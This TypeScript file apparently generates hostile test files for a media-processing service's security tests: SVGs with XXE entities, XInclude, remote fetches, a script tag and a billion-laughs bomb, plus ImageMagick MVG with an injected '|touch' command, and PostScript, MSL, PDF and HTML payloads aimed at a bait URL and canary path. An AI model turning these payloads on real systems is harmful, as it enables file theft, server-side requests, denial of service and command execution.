// Documents that draw, and that may name other files, addresses and programs: SVG, PostScript, PDF and the languages of ImageMagick.
// None is a format of the studio; under the name of a picture they must be read by nobody who would follow what they name.
import { gzipSync } from 'node:zlib'
import { type Bait, file, type HostileFile, notMedia } from './file.ts'

export function documents(bait: Bait): Record<string, HostileFile[]> {
  const drawn = [...svgs(bait), ...others(bait)]
  const named = drawn.flatMap(([name, content]) => ['', '.svg', '.jpg', '.mp4'].map((ending) => file(`${name} as a${ending}`, Buffer.from(content), notMedia)))
  return { 'documents that name other files': named }
}

function svgs({ url, canary }: Bait): [string, string | Uint8Array][] {
  const svg = (content: string, doctype = '') =>
    `<?xml version="1.0"?>${doctype}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">${content}</svg>`
  const levels = Array.from({ length: 9 }, (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`).join('')
  return [
    ['svg with a picture from a file', svg(`<image href="file://${canary}" width="64" height="64"/>`)],
    ['svg with a picture from an address', svg(`<image xlink:href="${url}/svg-image" width="64" height="64"/>`)],
    ['svg with a picture beside it', svg('<image href="../../canary" width="64" height="64"/>')],
    ['svg that uses another document', svg(`<use href="${url}/svg-use#a"/>`)],
    ['svg with an entity from a file', svg('<text>&a;</text>', `<!DOCTYPE svg [<!ENTITY a SYSTEM "file://${canary}">]>`)],
    ['svg with a parameter entity from an address', svg('', `<!DOCTYPE svg [<!ENTITY % a SYSTEM "${url}/svg-entity"> %a;]>`)],
    ['svg of a billion laughs', svg('<text>&l9;</text>', `<!DOCTYPE svg [<!ENTITY l0 "ha">${levels}]>`)],
    ['svg with an included file', svg(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://${canary}" parse="text"/>`)],
    ['svg with a style from an address', svg(`<style>@import url("${url}/svg-style");</style>`)],
    ['svg with a style sheet', `<?xml-stylesheet href="${url}/svg-sheet"?>${svg('')}`],
    ['svg with a program', svg(`<script>fetch("${url}/svg-script")</script>`)],
    ['svg of 100,000 x 100,000', svg('<rect width="9" height="9"/>').replaceAll('"64"', '"100000"')],
    ['svg with elements in elements, 50,000 deep', svg('<g>'.repeat(50_000))],
    ['compressed svg', gzipSync(svg(`<image href="file://${canary}"/>`))],
  ]
}

function others({ url, canary }: Bait): [string, string | Uint8Array][] {
  return [
    ['mvg that fetches', `push graphic-context\nviewbox 0 0 64 64\nimage over 0,0 0,0 'url(${url}/mvg)'\npop graphic-context\n`],
    ['mvg that runs a program', `push graphic-context\nfill 'url(https://x/"|touch ${canary}-run")'\npop graphic-context\n`],
    ['msl that reads', `<?xml version="1.0"?><image><read filename="${canary}"/><write filename="/tmp/x.png"/></image>`],
    ['a name that reads', `text:${canary}`],
    ['postscript that reads', `%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 64 64\n(${canary}) (r) file 100 string readstring pop show\nshowpage\n`],
    ['pdf that fetches', `%PDF-1.7\n1 0 obj <</Type/Action/S/URI/URI(${url}/pdf)>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF`],
    ['html that fetches', `<!doctype html><img src="${url}/html"><img src="file://${canary}">`],
    ['an address', `[InternetShortcut]\nURL=${url}/shortcut\n`],
  ]
}
